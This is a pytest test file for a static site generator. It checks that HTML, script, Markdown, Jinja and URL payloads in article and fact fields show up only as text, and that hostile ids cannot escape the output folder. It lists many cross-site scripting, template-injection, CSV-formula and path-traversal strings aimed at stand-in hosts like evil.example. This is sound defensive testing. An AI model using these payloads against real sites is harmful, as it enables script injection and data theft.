"""Hostile input is shown as text, never interpreted: HTML, scripts, Markdown, Jinja, MkDocs syntax.

Every payload below goes into every field a reader sees (quote, speaker, role, organisation,
venue, cue, editor's note, verdict, rating, excerpt, article title, outlet and author, people
registry names and roles). The rendered pages are converted to HTML with the Markdown extensions
the site uses and audited: no element, attribute or link the templates do not make themselves,
and the payload visible as text. The slow test builds a real site from a hostile article and
hostile YAML with `factsheet build` and opens every page in headless Chromium.
"""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import html
import io
import json
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest
from click.testing import CliRunner
from conftest import ROOT, write

from generator import render
from generator.cli import main
from generator.errors import FactsheetError
from generator.model import Article, Citation, Paragraph, Person, Record
from generator.records import fields

# Each payload either runs JavaScript that sets window.__pwned / calls alert(), or makes an element
# of class "pwn", if anything interprets it. None may do either.
PAYLOADS = [
    '<script>window.__pwned="script"</script>',
    "<img src=x onerror=\"window.__pwned='img'\" class=pwn>",
    "<svg onload=\"window.__pwned='svg'\"><circle class=pwn /></svg>",
    '"><b class=pwn>attribute break-out</b>',
    "'><iframe class=pwn src=\"javascript:window.top.__pwned='iframe'\"></iframe>",
    '</textarea></title></noscript><script>window.__pwned="close"</script>',
    '[click me](javascript:window.__pwned="mdlink")',
    '![pwn](javascript:window.__pwned="mdimg")',
    '[ref][x]\n\n[x]: javascript:window.__pwned="mdref"',
    '<a href="javascript:window.__pwned=\'a\'" class=pwn>link</a>',
    "<https://evil.example/autolink> and www.evil.example",
    "{{ 7*7 }} {% if true %}jinja{% endif %} {# comment #} {{ config.__class__ }}",
    '{: .pwn onclick="window.__pwned=\'attr\'" }',
    "Heading {#pwn .pwn}",
    '!!! danger "pwn admonition"',
    "[TOC]",
    '--8<-- "/etc/passwd"',
    ":material-alert: ==mark== ^^ins^^ ~~del~~ ++ctrl++",
    "<details class=pwn open><summary>x</summary></details>",
    "&lt;script&gt;window.__pwned='entity'&lt;/script&gt; &amp;lt;b&amp;gt;",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<!-- an HTML comment --> <![CDATA[x]]>",
    "`code` **bold** _em_ # not a heading * not a list > not a quote",
    "| a | table |\n|---|---|\n| row | x |",
    "<math><mi xlink:href=\"javascript:window.__pwned='math'\">x</mi></math>",
    '<form class=pwn action=https://evil.example><input name=q class=pwn></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=\'meta\'"><base href="https://evil.example/">',
    '<object class=pwn data="javascript:window.__pwned=\'object\'"></object><embed class=pwn src=x>',
    "<scr<script>ipt>window.__pwned='nested'</scr</script>ipt>",
    '<div markdown="1" class=pwn>*md in html*</div>',
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "\u202egnp.exe and \u200b zero\u2028width\u0085 and 👨\u200d👩\u200d👧 and e\u0301",
    "\\<script\\>window.__pwned='backslash'\\</script\\>",
    '<sCrIpT sRc="https://evil.example/x.js"></ScRiPt>',
]
BAD_URLS = [
    "javascript:window.__pwned='url'", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "data:text/html,<script>window.__pwned=1</script>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "//evil.example/x", "/relative", "https://evil.example/\" onmouseover=\"window.__pwned=1",
    "https://evil.example/'><script>x</script>", "http://", "https://ex ample.com", "ftp://example.com",
    "https://evil.example/<script>", "\x00javascript:alert(1)", "&#106;avascript:alert(1)",
]
GOOD_URLS = ["https://www.example.com/a?b=c&d=e#f", "http://example.com", "HTTPS://EXAMPLE.COM/x_(y)"]
# What the field table lets into content (http(s), no white space or control characters) though it
# carries markup: such addresses reach the pages, and must arrive there as text. The rest is refused
# by check (test_the_field_table_refuses_what_is_not_an_http_address).
ADMITTED_URLS = [u for u in BAD_URLS + GOOD_URLS if fields.URL_RE.match(u)]
REFUSED_URLS = [u for u in BAD_URLS if not fields.URL_RE.match(u)]

# What the templates may produce; anything else in a page came from content.
ALLOWED_TAGS = {"h1", "h2", "h3", "h4", "h5", "h6", "p", "a", "em", "strong", "blockquote", "ul", "ol", "li",
                "table", "thead", "tbody", "tr", "th", "td", "mark", "del", "ins", "code", "pre", "hr", "br",
                "div", "span", "sup", "small", "abbr", "time", "details", "summary"}
FORBIDDEN_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "img", "form", "input",
                  "meta", "base", "link", "textarea", "noscript", "video", "audio", "source", "frame", "title"}


def fold(text: str) -> str:
    return " ".join(text.split())


class Audit(HTMLParser):
    """Every tag, attribute and link of an HTML fragment, and its visible text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def problems(self) -> list[str]:
        found = []
        for tag, attrs in self.tags:
            if tag in FORBIDDEN_TAGS or tag not in ALLOWED_TAGS:
                found.append(f"element <{tag}>")
            if tag in {"details", "summary"} and attrs:
                found.append(f"<{tag}> with attributes {attrs}")
            for name, value in attrs.items():
                value = value or ""
                if name.startswith("on") or name in {"style", "srcdoc", "formaction", "xlink:href", "markdown"}:
                    found.append(f"attribute {name}={value!r} on <{tag}>")
                if _injected(name, value):
                    found.append(f"injected value {name}={value!r} on <{tag}>")
                if name in {"href", "src", "action", "data"}:
                    url = html.unescape(value).strip().lower()
                    if re.match(r"^[a-z][a-z0-9+.-]*:", url) and not url.startswith(("http://", "https://")):
                        found.append(f"{name}={value!r} on <{tag}>")
                    if tag == "a" and url.startswith(("http://", "https://")) and "noopener" not in (attrs.get("rel") or ""):
                        found.append(f"external link without rel=noopener: {value!r}")
        return found


def _injected(name: str, value: str) -> bool:
    """An attribute value that came from a payload (heading ids and links to slugs are fine)."""
    if name == "id" and re.fullmatch(r"[\w-]*", value) or name == "href" and re.fullmatch(r"[\w\-./#]*", value):
        return False
    if name not in {"class", "id", "src", "href", "action", "data", "style", "name"}:
        return False  # title="..." and the like hold text
    return bool(re.search(r"pwn", value, re.I))


def audit(html_text: str) -> Audit:
    parser = Audit()
    parser.feed(html_text)
    parser.close()
    return parser


def to_html(page: str) -> str:
    """A generated page as MkDocs turns it into HTML (the site's Markdown extensions)."""
    return markdown.markdown(page, extensions=["attr_list", "tables", "toc"])


def hostile_site(payload: str, url: str = "javascript:window.__pwned='url'") -> dict[str, str]:
    """Every page of a site whose every visible field is ``payload``."""
    text = f'"{payload}," said the mayor.\n'
    start = 1
    article = Article(id="hostile", path="content/articles/hostile.md", text=text,
                      paragraphs=(Paragraph(0, len(text) - 1, text[:-1]),), title=payload, outlet=payload,
                      url=url, published=dt.date(2020, 7, 10), author=payload, retrieved=dt.date(2020, 7, 11))
    common = dict(kind="direct", citation=Citation("hostile", start, start + len(payload), excerpt=payload),
                  status="reviewed", speaker_role=payload, speaker_org=payload, cue=payload,
                  said_on=dt.date(2020, 7, 9), venue=payload, note=payload, verdict=payload, rating=payload,
                  links=(url, *BAD_URLS, payload, GOOD_URLS[0]))
    facts = [Record(id="s-1", quote=payload, speaker=payload, **common),
             Record(id="s-2", quote=payload + " again", speaker="Jane Doe", **common)]
    people = [Person(id="jane-doe", name="Jane Doe", aliases=(payload,), role=payload, organization=payload,
                     links=(url, GOOD_URLS[1], payload))]
    return render.render_all({"hostile": article}, facts, people, overview="", title=payload)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload_in_every_field_is_shown_as_text_never_interpreted(payload):
    pages = hostile_site(payload)
    md_pages = {p: t for p, t in pages.items() if p.endswith(".md")}
    assert {"index.md", "sources/hostile.md", "speakers/jane-doe.md"} <= set(md_pages)
    shown = 0
    for path, page in md_pages.items():
        assert "{{" not in page.replace("&#123;", "") or "{{" not in payload, path  # Jinja never ran on data
        found = audit(to_html(page))
        assert not found.problems(), (path, found.problems())
        shown += fold(payload) in fold("".join(found.text))
    assert shown >= 3, "the payload should be visible, as text, on the home, speaker and source pages"


# A site may turn on many more Markdown extensions than the demo; the escaping must hold for them too.
EVERY_EXTENSION = ["attr_list", "tables", "toc", "md_in_html", "admonition", "abbr", "def_list", "footnotes",
                   "pymdownx.details", "pymdownx.superfences", "pymdownx.mark", "pymdownx.tilde", "pymdownx.caret",
                   "pymdownx.keys", "pymdownx.emoji", "pymdownx.magiclink", "pymdownx.tasklist", "pymdownx.critic",
                   "pymdownx.inlinehilite", "pymdownx.smartsymbols", "pymdownx.betterem", "pymdownx.arithmatex"]


def test_payloads_stay_text_with_every_common_markdown_extension(tmp_path):
    extensions = EVERY_EXTENSION + ["pymdownx.snippets"]
    config = {"pymdownx.snippets": {"base_path": [str(tmp_path)], "check_paths": False}}
    write(tmp_path / "secret.txt", "SNIPPET INCLUDED")
    for payload in PAYLOADS + ["--8<-- \"secret.txt\"", ";--8<-- \"secret.txt\"", "$$x$$ ==mark== {--del--}{++ins++}",
                               "- [x] task", "*[HTML]: abbr", "[^1]\n\n[^1]: footnote", "Term\n:   definition",
                               "??? note \"collapsed\"", "```python\nimport os\n```", "++ctrl+alt+del++"]:
        for path, page in hostile_site(payload).items():
            if not path.endswith(".md"):
                continue
            out = markdown.markdown(page, extensions=extensions, extension_configs=config)
            assert "SNIPPET INCLUDED" not in out, (payload, path)
            found = audit(out)
            assert not found.problems(), (payload, path, found.problems())


@pytest.mark.parametrize("payload", PAYLOADS[:12], ids=range(12))
def test_data_downloads_keep_payloads_as_data(payload):
    pages = hostile_site(payload)
    rows = json.loads(pages["facts.json"])
    assert rows and {row["quote"] for row in rows} == {payload, payload + " again"}
    assert all(row["url"] is None for row in rows)  # a javascript: URL is never published
    for row in csv.DictReader(io.StringIO(pages["facts.csv"])):
        for value in row.values():
            assert not (value or " ")[0] in "=+-@", f"spreadsheet formula in the CSV: {value!r}"
    for path, data in pages.items():
        if path.endswith(".jsonld"):
            assert "<" not in data and ">" not in data, path  # cannot end its <script> element
            json.loads(data)


@pytest.mark.parametrize("url", REFUSED_URLS)
def test_the_field_table_refuses_what_is_not_an_http_address(url):
    assert fields.check(fields.Field("links", "urls"), [url])[1] is not None


@pytest.mark.parametrize("url", BAD_URLS)
def test_only_http_urls_become_links(url):
    assert render.safe_url(url) is None
    link = render.external_link(url, "x")
    assert "<a" not in link and "href" not in link


@pytest.mark.parametrize("url", GOOD_URLS)
def test_external_links_open_safely(url):
    link = str(render.external_link(url))
    assert link.startswith("<a href=") and 'rel="noopener noreferrer"' in link and 'target="_blank"' in link
    assert html.unescape(re.search(r'href="([^"]*)"', link).group(1)) == url


def test_escape_leaves_nothing_that_markdown_html_or_jinja_reads():
    everything = "".join(chr(c) for c in range(32, 127)) + "\n\t\u2028"
    escaped = str(render.escape(everything))
    assert not re.search(r"[<>\"'`*_\[\](){}#!|\\&]", re.sub(r"&#\d+;", "", escaped))
    assert "\n" not in escaped and html.unescape(escaped) == re.sub(r"\s+", " ", everything)


# --- ids and slugs never leave the output folder ---------------------------------------------

ESCAPES = ["../../../evil", "/etc/passwd", "..", ".", "a/../../b", "C:\\evil", "\\\\server\\share", "con",
           "index", "NUL", "lpt1", "a" * 300, "évil/..%2F..%2Fx", "~root", "$HOME", ".hidden", "-dash", "%2e%2e"]


@pytest.mark.parametrize("name", ESCAPES)
def test_speaker_names_make_safe_page_slugs(name):
    slug = render.page_slug(name)
    assert re.fullmatch(r"[a-z0-9][a-z0-9-]*", slug) and len(slug) <= 82
    assert slug not in {"index", "con", "nul", "lpt1"}


@pytest.mark.parametrize("name", ESCAPES[:12])
def test_a_hostile_article_id_is_refused_with_its_line(tmp_path, name):
    from generator import ingest

    path = write(tmp_path / "a.md", f"---\ntitle: T\nid: {json.dumps(name)}\n---\n\"Hi,\" she said.\n")
    with pytest.raises(FactsheetError) as caught:
        ingest.load_article(path, "a.md")
    assert str(caught.value) == ("a.md:3: id: invalid id " + repr(name)
                                 + " (hint: use lowercase letters, digits and hyphens, like amazon-tiktok-ban)")


@pytest.mark.parametrize("stem", ["index", "con", "NUL", "Lpt1"])
def test_reserved_file_names_get_safe_article_ids(tmp_path, stem):
    from generator import ingest

    article = ingest.load_article(write(tmp_path / f"{stem}.txt", '"Hi," she said.\n'))
    assert article.id == f"{stem.lower()}-1"


def test_an_id_naming_a_path_never_writes_outside_content_or_site(tmp_path, monkeypatch):
    """The attack that worked before ids were checked: `id: ../../../evil` wrote ../../../evil.yaml."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("FACTSHEET_NLP", "rules")
    root = tmp_path / "deep/er/project"
    write(root / "content/articles/evil.md", '---\nid: ../../../evil\n---\n"We will win," the mayor said.\n')
    write(root / "content/articles/good.txt", '"We will win," the mayor said.\n')
    before = {p for p in tmp_path.rglob("*")}
    result = CliRunner().invoke(main, ["extract", "--content", str(root / "content")])
    assert result.exit_code == 1
    assert "evil.md:2: id: invalid id '../../../evil'" in result.output
    assert (root / "content/facts/good.yaml").is_file()  # the other article is still processed
    created = {p for p in tmp_path.rglob("*")} - before
    assert all(p.is_relative_to(root / "content") for p in created), created


def test_an_article_linking_outside_the_content_folder_is_never_read(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("FACTSHEET_NLP", "rules")
    secret = write(tmp_path / "secret.json", '{"password": "hunter2", "said": "the token is abc"}\n')
    write(tmp_path / "content/articles/good.txt", '"We will win," the mayor said.\n')
    (tmp_path / "content/articles/leak.txt").symlink_to(secret)
    (tmp_path / "content/articles/inside.txt").symlink_to(tmp_path / "content/articles/good.txt")
    result = CliRunner().invoke(main, ["extract"])
    assert result.exit_code == 1
    assert ("error: content/articles/leak.txt: the file is a symbolic link to a file outside its folder "
            "(hint: copy the article into the folder instead of linking to it)") in result.output.splitlines()
    assert "hunter2" not in "".join(p.read_text() for p in (tmp_path / "content/facts").glob("*.yaml"))
    assert (tmp_path / "content/facts/good.yaml").is_file()


def test_render_refuses_page_paths_outside_the_output_folder():
    article = Article(id="../evil", path="x.txt", text="x", paragraphs=())
    with pytest.raises(FactsheetError, match="refusing to write a page outside the site folder"):
        render.render_all({"../evil": article}, [], [])


@pytest.mark.parametrize("fact_id", ["../x", "/etc/passwd", "S-1", "s 1", "-s", "s-1/x", "ｓ-1", "s-1\n", ""])
def test_hostile_record_ids_are_refused(fact_id):
    from generator.records import store

    text = ("article: a\nstatements:\n  - id: " + json.dumps(fact_id) +
            "\n    kind: direct\n    quote: x\n    citation: {start: 0, end: 1}\n")
    ff, problems = store.parse_fact_file(text, "a.yaml")
    assert not ff.records and problems and problems[0].field == "id"


# --- the real thing: a hostile site built by MkDocs, every page opened in Chromium ----------

HOOK = r"""
window.__pwned = undefined; window.__alerts = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"]) {
  window[name] = function () { window.__alerts.push(name + ":" + Array.from(arguments).join(",")); };
}
"""
DOM_AUDIT = r"""
const found = [];
const marker = /pwn/i;
for (const el of document.querySelectorAll("*")) {
  for (const attr of el.attributes) {
    if (attr.name.startsWith("on")) found.push(el.tagName + " " + attr.name + "=" + attr.value);
    // The canonical link is this page's own address under mkdocs.yml's site_url: its path is a slug too.
    const canonical = el.tagName === "LINK" && el.rel === "canonical" && attr.name === "href";
    const local = attr.value.startsWith(location.origin + "/") ? attr.value.slice(location.origin.length)
      : canonical ? attr.value.replace(/^https:\/\/[\w.-]+(?=\/)/, "") : attr.value;
    const slug = (attr.name === "id" && /^[\w-]*$/.test(attr.value)) || (attr.name === "href" && /^[\w\-.\/#?=&+%]*$/.test(local));
    // Text in title/aria-label attributes is text; a marker in these would be markup from a payload.
    const markup = ["class", "id", "src", "href", "action", "data", "style", "name"].includes(attr.name);
    if (markup && marker.test(attr.value) && !slug) found.push(el.tagName + " " + attr.name + "=" + attr.value);
    if (["href", "src", "action", "data", "formaction"].includes(attr.name) &&
        /^\s*(javascript|data|vbscript):/i.test(attr.value)) found.push(el.tagName + " " + attr.name + "=" + attr.value);
  }
  if (el.tagName === "SCRIPT" && el.type === "application/ld+json") {  // data, never run: must stay valid JSON
    try { JSON.parse(el.textContent); } catch (e) { found.push("broken JSON-LD " + el.textContent.slice(0, 80)); }
  } else if (el.tagName === "SCRIPT" && /pwned|evil\.example/.test(el.textContent + (el.src || ""))) {
    found.push("SCRIPT " + el.textContent.slice(0, 80));
  }
  if (["IFRAME", "OBJECT", "EMBED", "FORM", "BASE", "INPUT"].includes(el.tagName) && !el.closest(".md-search, .md-header, .md-toggle, .md-option, .md-nav"))
    found.push(el.tagName + " " + el.outerHTML.slice(0, 80));
  if (el.tagName === "IMG" && !/assets|favicon|logo/.test(el.getAttribute("src") || "")) found.push("IMG " + el.outerHTML.slice(0, 80));
  if (el.tagName === "A" && /^https?:/.test(el.getAttribute("href") || "") && !(el.getAttribute("href") || "").startsWith(location.origin + "/") && !el.closest("header, footer, nav, .md-header, .md-footer, .md-source") &&
      !/noopener/.test(el.getAttribute("rel") || "")) found.push("A without noopener " + el.getAttribute("href"));
}
for (const el of document.querySelectorAll("meta[http-equiv], link[href*='evil']:not([rel=canonical])")) found.push(el.outerHTML);
return {pwned: window.__pwned === undefined ? null : String(window.__pwned), alerts: window.__alerts || [],
        found: found, text: document.body ? document.body.innerText : ""};
"""


def hostile_project(root: Path) -> Path:
    """A project whose article, fact file and registry carry every payload."""
    shutil.copytree(ROOT / "templates", root / "templates", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    # A hostile article: headline, outlet, author, URL and quotes.
    front = ("---\ntitle: " + json.dumps(PAYLOADS[0] + " " + PAYLOADS[1]) + "\noutlet: " + json.dumps(PAYLOADS[3])
             + "\nauthor: " + json.dumps(PAYLOADS[6]) + "\nurl: " + json.dumps(ADMITTED_URLS[0])
             + "\npublished: 2020-07-10\n---\n")
    body = "".join(f'"{p.replace(chr(10), " ")}," said {name}.\n\n'
                   for p, name in zip(PAYLOADS, ["the mayor", "Jane Doe", "a spokesperson"] * len(PAYLOADS)))
    text = front + body
    write(root / "content/articles/hostile.md", text)
    write(root / "content/index.md", "# Hostile test\n\nThe editor's own overview.\n")
    # Hostile records typed by an editor: every field a reader sees, citing the payload's place.
    records = []
    for i, payload in enumerate(PAYLOADS):
        flat = payload.replace("\n", " ")
        start = text.index(f'"{flat},') + 1
        records.append({
            "id": f"h-{i}", "status": "reviewed", "speaker": flat if i % 2 else f"Speaker {PAYLOADS[i % 5]}",
            "speaker_role": payload, "speaker_org": payload, "kind": "direct", "quote": flat,
            "said_on": dt.date(2020, 7, 1 + i % 28), "venue": payload, "cue": payload,
            "citation": {"start": start, "end": start + len(flat), "excerpt": payload},
            "note": payload, "verdict": payload, "rating": payload,
            "links": [ADMITTED_URLS[i % len(ADMITTED_URLS)], GOOD_URLS[i % len(GOOD_URLS)]],
        })
    from generator.records import store

    # Reviewed by an editor for this very version of the article: extraction leaves it alone.
    digest = hashlib.sha256(text.encode("utf-8")).hexdigest()
    write(root / "content/facts/hostile.yaml", store.dump({"article": "hostile", "digest": digest,
                                                           "extractor": store.EXTRACTOR_VERSION,
                                                           "statements": records}))
    # And a hostile article that goes through the extractor (payloads without straight double quotes).
    write(root / "content/articles/extracted.txt", "".join(
        f"“{p},” said Jane Doe.\n\nThe mayor said {p}.\n\n" for p in PAYLOADS if '"' not in p))
    people = [{"name": "Jane Doe", "aliases": [PAYLOADS[2]], "role": PAYLOADS[4], "organization": PAYLOADS[5],
               "links": [ADMITTED_URLS[0], GOOD_URLS[0]]}]
    write(root / "content/people.yaml", store.dump(people))
    return root


@pytest.mark.slow
def test_a_hostile_site_runs_no_script_and_has_no_injected_element_in_chromium(tmp_path):
    import browser

    browser.require()
    root = hostile_project(tmp_path)
    bin_dir = Path(sys.executable).parent
    env = {"NO_MKDOCS_2_WARNING": "1", "FACTSHEET_NLP": "rules", "PATH": str(bin_dir) + ":/usr/bin:/bin"}
    built = subprocess.run([bin_dir / "factsheet", "build"], cwd=root, capture_output=True, text=True, env=env)
    assert built.returncode == 0, built.stdout + built.stderr
    check = subprocess.run([bin_dir / "factsheet", "check"], cwd=root, capture_output=True, text=True, env=env)
    assert check.returncode == 0, check.stdout + check.stderr  # the hostile content is valid content
    site = root / "site"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["content", "mkdocs.yml", "site", "templates"]
    with browser.serve(site) as server, browser.browser() as chrome:
        chrome.add_init_script(HOOK)
        pages = server.pages()
        assert len(pages) >= 8
        seen_payloads = set()
        for url in pages:
            chrome.open(url)
            result = chrome.js(DOM_AUDIT)
            assert result["pwned"] is None and not result["alerts"], (url, result["pwned"], result["alerts"])
            assert not result["found"], (url, result["found"])
            text = fold(result["text"])
            seen_payloads |= {i for i, p in enumerate(PAYLOADS) if fold(p) in text}
        # Every payload was on some page, as text.
        assert seen_payloads == set(range(len(PAYLOADS))), sorted(set(range(len(PAYLOADS))) - seen_payloads)
        # The search box too: results show payloads (from the search index) as text, never as markup.
        from selenium.webdriver.common.by import By
        from selenium.webdriver.support.ui import WebDriverWait

        for query in ("onerror", "mayor", "Jane"):  # "script" is only ever part of a longer token now
            chrome.open(server.url(""))
            box = chrome.driver.find_element(By.CSS_SELECTOR, "input.md-search__input")
            box.send_keys(query)
            WebDriverWait(chrome.driver, 20).until(
                lambda d: d.execute_script("return document.querySelectorAll('.md-search-result__item').length") > 0)
            result = chrome.js(DOM_AUDIT)
            assert result["pwned"] is None and not result["alerts"], (query, result["pwned"], result["alerts"])
            assert not result["found"], (query, result["found"])
